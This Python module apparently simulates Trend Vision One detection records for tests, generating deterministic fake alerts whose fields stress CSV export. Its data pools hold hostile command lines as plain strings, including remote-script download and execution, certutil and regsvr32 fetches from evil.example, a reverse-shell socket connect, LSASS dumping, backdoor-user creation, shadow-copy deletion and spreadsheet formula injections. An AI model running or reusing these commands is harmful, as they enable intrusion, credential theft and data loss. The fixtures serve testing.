"""Seeded, deterministic detection records shaped like Vision One's ``/v3.0/search/detections`` items.

Records are generated one day at a time as rows ``(eventTime ms, uuid, bits)``, cached packed (48 bytes
a row: :class:`DayRows`), and expanded into full dicts only when filtered or served; a page without
``select`` is written as JSON straight from its rows (:func:`materialize_json`). Counting a range costs a
binary search per day (:class:`Rows`). The expansion is a pure function of the row and of the seed's
entity pools (hosts, processes, files, mails), so the same seed always gives the same data.
The pools deliberately hold what makes CSV export hard: unicode, commas, quotes, newlines and
strings that begin with ``=``, ``+``, ``-`` or ``@`` (attackers control command lines, URLs, subjects).
Names and shapes are Trend's field dictionary's (:mod:`samples`): flat hashes, ``policyName``, and the
product's other fields filled from real samples.
"""

from __future__ import annotations

import bisect
import hashlib
import random
import threading
from array import array
from collections import OrderedDict
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from typing import TYPE_CHECKING, Any, overload

from tests.simulator import samples
from tests.simulator.dictionary import EXTRA_API_FIELDS, field_map

if TYPE_CHECKING:
    from tests.simulator.query import Query

Row = tuple[int, str, int]  # (eventTime epoch ms, uuid, random bits that pick every other value)
DAY_MS = 86_400_000

# productCode, pname, pver, kind, weight (the dictionary's product codes)
PRODUCTS: tuple[tuple[str, str, str, str, int], ...] = (
    ("sao", "Apex One as a Service", "14.0.12637", "endpoint", 3),
    ("xes", "Trend Vision One Endpoint Security", "1.2.2090", "endpoint", 2),
    ("sds", "Server & Workload Protection", "20.0.1-3445", "endpoint", 2),
    ("pdi", "Deep Discovery Inspector", "6.0.1208", "network", 2),
    ("xns", "Trend Vision One Network Security", "1.0.3115", "network", 1),
    ("sca", "Cloud App Security", "3.0.3047", "mail", 1),
    ("sem", "Trend Micro Email Security", "1.0.0.3561", "mail", 1),
)
_PRODUCT_TABLE = tuple(p for p in PRODUCTS for _ in range(p[4]))

# eventName, eventSubName, detectionType per product kind (names and values as the dictionary's samples)
EVENTS: dict[str, tuple[tuple[str, str, str], ...]] = {
    "endpoint": (
        ("SECURITY_RISK_DETECTION", "File", "File"),
        ("SECURITY_RISK_DETECTION", "Process", "Process"),
        ("BEHAVIOR_MONITORING", "Attack Discovery", "Process"),
        ("APPLICATION_CONTROL", "Process", "Process"),
        ("WEB_THREAT_DETECTION", "URL", "Web"),
        ("DATA_LOSS_PREVENTION", "File", "File"),
    ),
    "network": (
        ("NETWORK_CONTENT_INSPECTION", "IPS Detection", "Network"),
        ("WEB_THREAT_DETECTION", "URL", "Web"),
        ("SECURITY_RISK_DETECTION", "File", "File"),
    ),
    "mail": (
        ("MESSAGE_DETECTION", "Email", "Email"),
        ("SECURITY_RISK_DETECTION", "Attachment", "File"),
        ("DATA_LOSS_PREVENTION", "Email", "Email"),
    ),
}

ACTIONS: dict[str, tuple[tuple[str, str], ...]] = {
    "endpoint": (
        ("Block", "Blocked"),
        ("Quarantine", "File quarantined"),
        ("Clean", "File cleaned"),
        ("Allow", "Allowed"),
        ("Log", "Logged"),
        ("Pass, logged", "Passed"),
        ("Block", "Access denied"),
    ),
    "network": (
        ("Log", "Logged"),
        ("Block", "Connection reset"),
        ("Pass, logged", "Passed"),
        ("Allow", "Allowed"),
    ),
    "mail": (
        ("Quarantine", "Message quarantined"),
        ("Block", "Message deleted"),
        ("Pass, logged", "Delivered"),
        ("Clean", "Attachment stripped"),
        ("Log", "Logged"),
    ),
}

RISK_LEVELS = ("info", "low", "low", "medium", "medium", "high", "critical")

_EXCEL = '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"'

# processName, processCmd, parentCmd
PROCESSES: tuple[tuple[str, str, str], ...] = (
    (
        "powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
        "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAnACkA",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n',
    ),
    (
        "powershell.exe",
        '-NoProfile -w hidden -ExecutionPolicy Bypass -File "C:\\Users\\Public\\a b\\run.ps1"',
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    ("cmd.exe", "=cmd|' /C calc'!A0", _EXCEL),
    ("cmd.exe", "@SUM(1+1)*cmd|' /C calc'!A0", _EXCEL),
    ("cmd.exe", '+cmd /c "echo hi, there" & whoami', "C:\\Windows\\explorer.exe"),
    ("cmd.exe", 'cmd.exe /c "whoami /all, net user"', "C:\\Windows\\explorer.exe"),
    (
        "powershell.exe",
        'powershell.exe -Command "Get-Process |\n  Where-Object { $_.CPU -gt 100 },\n  Stop-Process -Force"',
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe",
    ),
    (
        "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
        'C:\\Windows\\System32\\cmd.exe /c "C:\\temp\\d.bat"',
    ),
    (
        "WINWORD.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
        '"C:\\Users\\ana\\Downloads\\Invoice, March ""final"".docm"',
        "C:\\Windows\\explorer.exe",
    ),
    ("bash", "/bin/bash -c 'curl -fsSL http://203.0.113.7/x.sh | sh'", "/usr/sbin/sshd -D"),
    (
        "certutil.exe",
        "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe",
        'C:\\Windows\\System32\\cmd.exe /c "certutil.exe -urlcache -split -f http://evil.example/payload.exe"',
    ),
    (
        "mshta.exe",
        'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"", 0:close")',
        "C:\\Windows\\explorer.exe",
    ),
    (
        "regsvr32.exe",
        "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -secured -Embedding",
    ),
    (
        "schtasks.exe",
        'schtasks /create /tn "Updater, daily" /tr "C:\\ProgramData\\upd.exe" /sc daily',
        'C:\\Windows\\System32\\cmd.exe /c "setup.bat"',
    ),
    (
        "WMIC.exe",
        'wmic process call create "cmd.exe /c net user backdoor P@ss,word1 /add"',
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "rapport_été.exe",
        '"C:\\Users\\José\\Documents\\rapport_été.exe" --silent',
        "C:\\Windows\\explorer.exe",
    ),
    (
        "更新.exe",
        "C:\\Users\\田中\\AppData\\Local\\Temp\\更新.exe /quiet",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs",
    ),
    (
        "python3",
        "-python3 -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.4\",4444))'",
        "bash -i",
    ),
)

OBJECT_CMDS = (
    "C:\\Windows\\System32\\net.exe user backdoor /add",
    '"C:\\Windows\\System32\\reg.exe" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run '
    '/v upd /d "x, y"',
    "vssadmin.exe delete shadows /all /quiet",
    "=2+5+cmd|' /C calc'!A0",
    "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
    "whoami.exe /priv",
)

# fileName list, filePath
FILES: tuple[tuple[list[str], str], ...] = (
    (["invoice_2024.pdf.exe"], "C:\\Users\\ana\\Downloads\\"),
    (["Rechnung, März.docm"], "C:\\Users\\büro\\Documents\\"),
    (['"quoted".js', "loader.dll"], "C:\\Users\\Public\\"),
    (["更新プログラム.exe"], "C:\\Users\\田中\\AppData\\Local\\Temp\\"),
    (["-rf.sh"], "/tmp/"),
    (["=evil.xlsx"], "C:\\Users\\mark\\Desktop\\"),
    (["+payload.hta", "@readme.txt"], "C:\\ProgramData\\"),
    (["lsass.dmp"], "C:\\temp\\"),
    (["eicar.com"], "C:\\Users\\test\\Downloads\\"),
    (["setup_x64 (1).msi"], "C:\\Users\\José\\Downloads\\"),
    (["report\nQ3.pdf.scr"], "C:\\Users\\ana\\Downloads\\"),
    (["update.ps1", "stage2.bin"], "C:\\Windows\\Temp\\"),
)

# malName, malType, threatName
MALWARE: tuple[tuple[str, str, str], ...] = (
    ("TROJ_GEN.R002C0PK124", "Trojan", "Trojan.Win32.Generic"),
    ("Ransom.Win32.LOCKBIT.YXCDT", "Ransomware", "LockBit"),
    ("Backdoor.Win64.COBEACON.SMA", "Backdoor", "Cobalt Strike Beacon"),
    ("PUA.Win32.Adware.Agent", "PUA", "Adware, bundled"),
    ("Eicar_test_file", "Virus", "EICAR test file"),
    ("HackTool.PS1.PowerSploit.A", "HackTool", "PowerSploit"),
    ("TrojanSpy.MSIL.AGENTTESLA.YXEC", "Spyware", 'AgentTesla "info stealer"'),
    ("HEU_AEGIS_SIM", "Behavior", "Suspicious behaviour"),
)

# (techniques, tactics, extra tags)
MITRE: tuple[tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...]], ...] = (
    (("T1059.001",), ("TA0002",), ("XSAE.F2140",)),
    (("T1003.001",), ("TA0006",), ("XSAE.F3066",)),
    (("T1566.001",), ("TA0001",), ("XSAE.F1034", "XSAE.F1035")),
    (("T1105", "T1071.001"), ("TA0011",), ()),
    (("T1218.011",), ("TA0005",), ("XSAE.F2204",)),
    (("T1053.005",), ("TA0003", "TA0002"), ()),
    (("T1486",), ("TA0040",), ("XSAE.F6312",)),
    (("T1547.001", "T1027"), ("TA0003", "TA0005"), ("XSAE.F4412",)),
)

REQUESTS = (
    'https://login.micros0ft-support.example/oauth?client_id=1,2&redirect="x"',
    "http://evil.example/download.php?id=7&name=a,b",
    '=HYPERLINK("http://evil.example/x","click")',
    "+http://203.0.113.9/inject",
    "https://例え.テスト/パス?q=ä",
    "-http://ads.example/track?u=1",
    "@import url(http://evil.example/s.css)",
    "http://198.51.100.23:8080/gate.php",
    "https://cdn.example.com/libs/jquery-3.7.1.min.js",
    "http://update.example.net/check?v=1.0&os=win",
)

SUBJECTS = (
    'Invoice #4471, due "today"',
    '=HYPERLINK("http://evil.example/pay","Pay now")',
    "@channel urgent: password reset",
    "Réunion d'équipe – compte rendu",  # noqa: RUF001  (real subjects carry typographic dashes)
    "【重要】アカウントの確認",
    "Multi-line\nsubject, folded",
    "+1 (555) 010-7788 voicemail",
    "-- Quarterly report --",
    "Заказ №5521 подтверждён",
    'Re: "Project Ω" budget, Q3',
    "Your parcel is on its way",
    "Payroll update",
)

SENDERS = (
    "billing@vendor-payments.example",
    "ceo.office@contoso-mail.example",
    "noreply@dhl-track.example",
    "françois.dupont@exemple.fr",
    "it-support@corp-helpdesk.example",
    "hr@example.com",
)

RECIPIENTS = (
    "ana.silva@corp.example",
    "mark.jones@corp.example",
    "田中.太郎@corp.example",
    "finance@corp.example",
    "jose.garcia@corp.example",
    "helpdesk@corp.example",
)

USERS = (
    "CORP\\ana.silva",
    "CORP\\mark.jones",
    "CORP\\svc_backup",
    "büro\\jürgen",
    "NT AUTHORITY\\SYSTEM",
    "root",
)

HOST_PATTERNS = (
    "WS-LON-{n:04d}",
    "ＷＳ-東京-{n:02d}",  # noqa: RUF001  (full-width letters, as Japanese hosts are named)
    "büro-pc-{n}",
    "LAPTOP-ÅSA{n}",
    "srv-db-{n:02d}",
    "MacBook-de-José-{n}",
    "Ноутбук-Иван-{n}",
    "DESKTOP-{n:05X}",
)

OSES = (
    ("Windows 10", "10.0.19045"),
    ("Windows 11", "10.0.22631"),
    ("Windows Server 2019", "10.0.17763"),
    ("macOS", "14.4.1"),
    ("Ubuntu", "22.04"),
)

# policyName, ruleName
POLICIES: tuple[tuple[str, str], ...] = (
    ("Default Endpoint Policy, EU", 'Block "encoded" PowerShell'),
    ("Servers – strict", "Ransomware behaviour"),  # noqa: RUF001
    ("Mail: inbound", "Phishing URL, high confidence"),
    ("=Finance team", "Attachments with macros"),
    ("Developers", "Allow signed tools"),
    ("Default", "Log only"),
)

DPORTS = (80, 443, 445, 3389, 25, 53, 8080, 22, 4444, 135)
MAIL_GATEWAYS = ("192.0.2.25", "192.0.2.26")


# Values that several records share (lists are shared too: records are read-only).
_MITRE_TAGS = tuple(
    (
        list(techniques),
        list(tactics),
        [*extra, *(f"MITREV9.{x}" for x in (*techniques, *tactics))],
        [f"{t} ({tactics[0]})" for t in techniques],
    )
    for techniques, tactics, extra in MITRE
)
_OBJECT_CMD_SETS = (
    [],
    *([c] for c in OBJECT_CMDS),
    *([a, b] for a in OBJECT_CMDS for b in OBJECT_CMDS if a != b),
)
_RECIPIENT_SETS = (
    *([r] for r in RECIPIENTS),
    *([a, b] for a in RECIPIENTS for b in RECIPIENTS if a < b),
    [RECIPIENTS[0], RECIPIENTS[3], RECIPIENTS[5]],
)


@dataclass(frozen=True)
class Endpoint:
    guid: str
    name: str
    ips: list[str]
    as_object: dict[str, Any]  # name, os {name, version}, ips: what the inventory knows of the host


@dataclass(frozen=True)
class Pools:
    """Per-seed entities that rows pick from (stable ids, hashes and names)."""

    endpoints: tuple[Endpoint, ...]
    process_hash_objects: tuple[dict[str, str], ...]  # per PROCESSES entry: {Md5, Sha1, Sha256}
    file_hash_objects: tuple[dict[str, str], ...]  # per FILES entry (flattened into the records' names)
    file_sizes: tuple[str, ...]
    external_ips: tuple[str, ...]
    policy_uuids: tuple[str, ...]  # per POLICIES entry


def _uuid(bits: int) -> str:
    """Format 128 random bits as a version-4 UUID string."""
    h = f"{bits:032x}"
    variant = "89ab"[int(h[16], 16) & 3]
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{variant}{h[17:20]}-{h[20:32]}"


def _uuid_value(bits: int) -> int:
    """The 128-bit number whose 32 hex digits are ``_uuid(bits)`` without dashes (version 4, RFC variant).

    Orders as the UUID strings do, so day rows sort by it before any string is made.
    """
    return (bits & ~(0xF << 76) & ~(1 << 62)) | (4 << 76) | (1 << 63)


def _uuid_text(value: int) -> str:
    """``_uuid`` of a number that is already a UUID's (:func:`_uuid_value`)."""
    h = f"{value:032x}"
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _hashes(seed: int, label: str) -> dict[str, str]:
    data = f"{seed}:{label}".encode()
    return {
        "Md5": hashlib.md5(data).hexdigest(),
        "Sha1": hashlib.sha1(data).hexdigest(),
        "Sha256": hashlib.sha256(data).hexdigest(),
    }


@lru_cache(maxsize=16)
def pools(seed: int) -> Pools:
    rng = random.Random(f"visionone-pools:{seed}")
    endpoints = []
    for i in range(120):
        pattern = HOST_PATTERNS[i % len(HOST_PATTERNS)]
        ips = [f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"]
        if i % 5 == 0:
            ips.append(f"fe80::{rng.randrange(65536):x}:{rng.randrange(65536):x}")
        os_name, os_version = OSES[rng.randrange(len(OSES))]
        name = pattern.format(n=rng.randrange(1, 4000))
        nested = {"name": name, "os": {"name": os_name, "version": os_version}, "ips": ips}
        endpoints.append(Endpoint(_uuid(rng.getrandbits(128)), name, ips, nested))
    return Pools(
        endpoints=tuple(endpoints),
        process_hash_objects=tuple(_hashes(seed, f"process:{i}") for i in range(len(PROCESSES))),
        file_hash_objects=tuple(_hashes(seed, f"file:{i}") for i in range(len(FILES))),
        file_sizes=tuple(str(rng.randrange(68, 40_000_000)) for _ in FILES),
        external_ips=tuple(
            f"{rng.choice((198, 203, 185))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            for _ in range(40)
        ),
        policy_uuids=tuple(_uuid(rng.getrandbits(128)) for _ in POLICIES),
    )


class DayRows:
    """One day's rows, oldest first (by eventTime, then uuid), packed: eventTime in an array (8 bytes a row,
    for the binary search), uuid and bits in one bytes object (40): 48 bytes a row instead of about 240
    as tuples, so 2,000,000 detections cost about 100 MB. Rows are unpacked per page."""

    __slots__ = ("packed", "times")

    def __init__(self, day_ms: int, keys: list[int]) -> None:
        """``keys``: sorted ``ms offset in the day << 320 | _uuid_value << 192 | 192 bits``."""
        self.times = array("q", [day_ms + (key >> 320) for key in keys])
        self.packed = b"".join([(key & _LOW_320).to_bytes(40, "big") for key in keys])

    def __len__(self) -> int:
        return len(self.times)

    def index(self, ms: int) -> int:
        """The position of the first row with ``eventTime >= ms``."""
        return bisect.bisect_left(self.times, ms)

    def rows(self, a: int, b: int) -> list[Row]:
        """Rows ``a`` to ``b - 1``, newest first."""
        times, packed, from_bytes = self.times, self.packed, int.from_bytes
        return [
            (
                times[i],
                _uuid_text(from_bytes(packed[40 * i : 40 * i + 16])),
                from_bytes(packed[40 * i + 16 : 40 * i + 40]),
            )
            for i in range(b - 1, a - 1, -1)
        ]


_LOW_320 = (1 << 320) - 1


@lru_cache(maxsize=64)
def day_rows(seed: int, scale: int, day: date) -> DayRows:
    """Exactly ``scale`` rows for one UTC day.

    Each row is drawn as one int that orders as the tuple ``(eventTime, uuid, bits)`` would (its fields
    side by side), which sorts faster and takes a third of the memory while the day is generated.
    """
    rng = random.Random(f"visionone-day:{seed}:{day.isoformat()}")
    day_ms = int(datetime(day.year, day.month, day.day, tzinfo=UTC).timestamp() * 1000)
    getrandbits, randrange = rng.getrandbits, rng.randrange
    keys = [
        randrange(DAY_MS) << 320 | _uuid_value(getrandbits(128)) << 192 | getrandbits(192)
        for _ in range(scale)
    ]
    keys.sort()
    return DayRows(day_ms, keys)


class Rows(Sequence[Row]):
    """The rows of a range, newest first, as a view over packed days: ``len`` costs nothing, a slice
    unpacks only its rows (a count or a page of a 2,000,000-row range never unpacks the range)."""

    def __init__(self, spans: list[tuple[DayRows, int, int]]) -> None:
        """``spans``: ``(day, a, b)`` for rows ``a`` to ``b - 1`` of each day, newest day first."""
        self._spans = [span for span in spans if span[2] > span[1]]
        self._len = sum(b - a for _, a, b in self._spans)

    def __len__(self) -> int:
        return self._len

    def _slice(self, start: int, stop: int) -> list[Row]:
        out: list[Row] = []
        offset = 0  # view position of the current span's newest row
        for day, a, b in self._spans:
            if offset >= stop:
                break
            size = b - a
            lo, hi = max(start - offset, 0), min(stop - offset, size)
            if lo < hi:  # view positions offset+lo .. offset+hi-1 are day rows b-1-lo down to b-hi
                out.extend(day.rows(b - hi, b - lo))
            offset += size
        return out

    @overload
    def __getitem__(self, index: int) -> Row: ...
    @overload
    def __getitem__(self, index: slice) -> list[Row]: ...
    def __getitem__(self, index: int | slice) -> Row | list[Row]:
        if isinstance(index, slice):
            start, stop, step = index.indices(self._len)
            if step != 1:
                return self._slice(0, self._len)[index]
            return self._slice(start, max(start, stop))
        position = index + self._len if index < 0 else index
        if not 0 <= position < self._len:
            raise IndexError("row index out of range")
        return self._slice(position, position + 1)[0]

    def __iter__(self) -> Iterator[Row]:
        for day, a, b in self._spans:
            yield from day.rows(a, b)


@lru_cache(maxsize=4096)
def _day_text(epoch_day: int) -> str:
    return (date(1970, 1, 1) + timedelta(days=epoch_day)).isoformat()


def materialize(seed: int, row: Row) -> dict[str, Any]:
    """Expand a row into a full detection record. Values may be shared between records: treat as read-only."""
    code, core = _core(seed, row)
    return samples.finish("detections", code, core, int(row[1].replace("-", ""), 16))


def materialize_json(seed: int, row: Row) -> str:
    """``wire.encode(materialize(seed, row))``, written without building the record."""
    code, core = _core(seed, row)
    return samples.finish_json("detections", code, core, int(row[1].replace("-", ""), 16))


def _core(seed: int, row: Row) -> tuple[str, dict[str, Any]]:
    """The row's product code and core record.

    Each ``divmod`` peels one choice off the row's random bits; written out inline because this runs
    for every record served or filtered. The core holds every name (None where the event has no such
    value) in a fixed order; :func:`samples.finish` keeps what the product emits and adds its other
    dictionary fields.
    """
    event_ms, uuid, bits = row
    p = pools(seed)
    bits, i = divmod(bits, len(_PRODUCT_TABLE))
    code, pname, pver, kind, _ = _PRODUCT_TABLE[i]
    events, actions = EVENTS[kind], ACTIONS[kind]
    bits, i = divmod(bits, len(events))
    event_name, event_sub, detection_type = events[i]
    bits, i = divmod(bits, len(actions))
    act, act_result = actions[i]
    bits, i = divmod(bits, len(RISK_LEVELS))
    risk = RISK_LEVELS[i]
    bits, i = divmod(bits, len(p.endpoints))
    ep = p.endpoints[i]
    bits, proc_i = divmod(bits, len(PROCESSES))
    bits, file_i = divmod(bits, len(FILES))
    bits, i = divmod(bits, len(MALWARE))
    mal_name, mal_type, threat_name = MALWARE[i]
    bits, i = divmod(bits, len(MITRE))
    techniques, tactics, tags, mappings = _MITRE_TAGS[i]
    bits, i = divmod(bits, len(REQUESTS))
    request = REQUESTS[i]
    bits, policy_i = divmod(bits, len(POLICIES))
    bits, i = divmod(bits, len(p.external_ips))
    ext_ip = p.external_ips[i]
    bits, spt = divmod(bits, 64_000)
    spt += 1024
    bits, i = divmod(bits, len(DPORTS))
    dpt = DPORTS[i]
    bits, pid = divmod(bits, 60_000)
    pid += 4
    bits, i = divmod(bits, len(_OBJECT_CMD_SETS))
    obj_cmds = _OBJECT_CMD_SETS[i]
    bits, i = divmod(bits, len(SUBJECTS))
    subject = SUBJECTS[i]
    bits, i = divmod(bits, len(SENDERS))
    sender = SENDERS[i]
    bits, i = divmod(bits, len(_RECIPIENT_SETS))
    recipients = _RECIPIENT_SETS[i]
    bits, i = divmod(bits, len(USERS))
    user = USERS[i]
    has_file = bits % 4 != 0

    day, second = divmod(event_ms // 1000, 86_400)
    hh, rest = divmod(second, 3600)
    seconds = f"{_day_text(day)}T{hh:02d}:{rest // 60:02d}:{rest % 60:02d}"
    rt = f"{seconds}.{event_ms % 1000:03d}Z"
    file_names, file_path = FILES[file_i]
    proc_name, proc_cmd, parent_cmd = PROCESSES[proc_i]
    endpoint_kind = kind == "endpoint"
    mail_kind = kind == "mail"
    file_fields = endpoint_kind or has_file
    file_hash = p.file_hash_objects[file_i] if file_fields else _NO_HASH
    proc_hash = p.process_hash_objects[proc_i] if endpoint_kind else _NO_HASH
    policy_name, rule_name = POLICIES[policy_i]

    if mail_kind:
        host, ips, src, dst, dpt = recipients[0], [ext_ip], ext_ip, [MAIL_GATEWAYS[spt % 2]], 25
    else:
        host, ips, src, dst = ep.name, ep.ips, ep.ips[0], [ext_ip]

    core = {
        "uuid": uuid,
        "eventTime": event_ms,
        "eventTimeDT": f"{seconds}+00:00",
        "rt": rt,
        "rt_utc": rt,
        "productCode": code,
        "pname": pname,
        "pver": pver,
        "act": act,
        "actResult": act_result,
        "detectionType": detection_type,
        "eventName": event_name,
        "eventSubName": event_sub,
        "filterRiskLevel": risk,
        "endpointGUID": ep.guid if endpoint_kind else None,
        "endpointHostName": ep.name if endpoint_kind else None,
        "endpointIp": ep.ips if endpoint_kind else None,
        "hostName": host,
        "interestedHost": host,
        "interestedIp": ips,
        "src": src,
        "dst": dst,
        "spt": spt,
        "dpt": dpt,
        "request": request if (not endpoint_kind or event_name == "WEB_THREAT_DETECTION") else None,
        "processName": proc_name if endpoint_kind else None,
        "processCmd": proc_cmd if endpoint_kind else None,
        "parentCmd": parent_cmd if endpoint_kind else None,
        "objectCmd": obj_cmds or None if endpoint_kind else None,
        "processPid": pid if endpoint_kind else None,
        "processFileHashMd5": proc_hash["Md5"],
        "processFileHashSha1": proc_hash["Sha1"],
        "processFileHashSha256": proc_hash["Sha256"],
        "objectFileHashMd5": file_hash["Md5"],
        "objectFileHashSha1": file_hash["Sha1"],
        "objectFileHashSha256": file_hash["Sha256"],
        "fileName": file_names if file_fields else None,
        "filePath": file_path if file_fields else None,
        "fileHash": file_hash["Sha1"],
        "fileSize": p.file_sizes[file_i] if file_fields else None,  # digits in a string, as the API sends
        "malName": mal_name if file_fields else None,
        "malType": mal_type if file_fields else None,
        "threatName": threat_name,
        "mitreMapping": mappings,
        "tacticId": tactics,
        "techniqueId": techniques,
        "tags": tags,
        "mailMsgSubject": subject if mail_kind else None,
        "suser": sender if mail_kind else (user if endpoint_kind else None),
        "duser": recipients if mail_kind else None,
        "policyName": policy_name if kind != "network" else None,
        "policyUuid": p.policy_uuids[policy_i] if kind != "network" else None,
        "ruleName": rule_name,
    }
    return code, core


_NO_HASH = {"Md5": None, "Sha1": None, "Sha256": None}


FIELDS: tuple[str, ...] = tuple(field_map("detections")) + tuple(EXTRA_API_FIELDS["detections"])
"""Every name a detection may carry (the dictionary's and the few the API adds)."""


def parse_time(value: str | date | datetime) -> int:
    """Epoch ms of an ISO 8601 string (``Z`` or offset; naive = UTC), a date or a datetime."""
    if isinstance(value, str):
        value = datetime.fromisoformat(value)
    if not isinstance(value, datetime):
        value = datetime(value.year, value.month, value.day)
    if value.tzinfo is None:
        value = value.replace(tzinfo=UTC)
    return int(value.timestamp() * 1000)


class Dataset:
    """The detections of ``days`` days from ``start``, ``scale`` per day, for one seed."""

    def __init__(self, seed: int, scale: int, start: str | date, days: int) -> None:
        if scale < 0 or days < 0:
            raise ValueError("scale and days must not be negative")
        self.seed, self.scale, self.days = seed, scale, days
        self.start_day = date.fromisoformat(start) if isinstance(start, str) else start
        self.start_ms = parse_time(self.start_day)
        self.end_ms = self.start_ms + days * DAY_MS
        self._cache: OrderedDict[tuple[str, int | None, int | None], tuple[Row, ...]] = OrderedDict()
        self._lock = threading.Lock()

    def view(self, start_ms: int | None = None, end_ms: int | None = None) -> Rows:
        """Rows with ``start_ms <= eventTime < end_ms``, newest first, unpacked only when read."""
        lo = self.start_ms if start_ms is None else max(start_ms, self.start_ms)
        hi = self.end_ms if end_ms is None else min(end_ms, self.end_ms)
        spans: list[tuple[DayRows, int, int]] = []
        if lo < hi:
            first, last = (lo - self.start_ms) // DAY_MS, (hi - 1 - self.start_ms) // DAY_MS
            for i in range(last, first - 1, -1):
                rows = day_rows(self.seed, self.scale, self.start_day + timedelta(days=i))
                spans.append((rows, rows.index(lo), rows.index(hi)))
        return Rows(spans)

    def rows(self, start_ms: int | None = None, end_ms: int | None = None) -> list[Row]:
        """Rows with ``start_ms <= eventTime < end_ms``, newest first."""
        return list(self.view(start_ms, end_ms))

    def matching(self, query: Query, start_ms: int | None = None, end_ms: int | None = None) -> Sequence[Row]:
        """Rows in range that match ``query``, newest first; filtered answers are cached for paging."""
        if query.match_all:
            return self.view(start_ms, end_ms)
        key = (query.text, start_ms, end_ms)
        with self._lock:
            if key in self._cache:
                self._cache.move_to_end(key)
                return self._cache[key]
        result = tuple(
            row for row in self.view(start_ms, end_ms) if query.matches(materialize(self.seed, row))
        )
        with self._lock:
            self._cache[key] = result
            while len(self._cache) > 64:
                self._cache.popitem(last=False)
        return result

    def expand(self, row: Row) -> dict[str, Any]:
        return materialize(self.seed, row)

    def to_json(self, row: Row) -> str:
        return materialize_json(self.seed, row)

    def records(self, rows: Iterable[Row] | None = None) -> list[dict[str, Any]]:
        """Full records of ``rows`` (default: every generated row, newest first)."""
        return [materialize(self.seed, row) for row in (self.rows() if rows is None else rows)]

    def __len__(self) -> int:
        return self.scale * self.days


def project(record: dict[str, Any], fields: Sequence[str] | None) -> dict[str, Any]:
    """Keep only ``fields`` (plus ``uuid`` and ``eventTime``), in record order: the API's ``select``."""
    if not fields:
        return record
    keep = {"uuid", "eventTime", *fields}
    return {k: v for k, v in record.items() if k in keep}
